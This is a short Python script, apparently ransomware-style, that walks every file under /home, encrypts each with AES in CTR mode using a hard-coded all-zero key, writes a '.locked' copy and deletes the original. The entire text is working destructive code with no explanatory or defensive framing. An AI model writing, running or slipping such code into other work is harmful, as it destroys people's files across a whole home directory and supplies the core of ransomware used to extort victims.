import os
from Crypto.Cipher import AES

def lock(path):
    data = open(path, "rb").read()
    open(path + ".locked", "wb").write(AES.new(b"0" * 16, AES.MODE_CTR).encrypt(data))
    os.remove(path)

for folder, _, names in os.walk("/home"):
    for name in names:
        lock(os.path.join(folder, name))
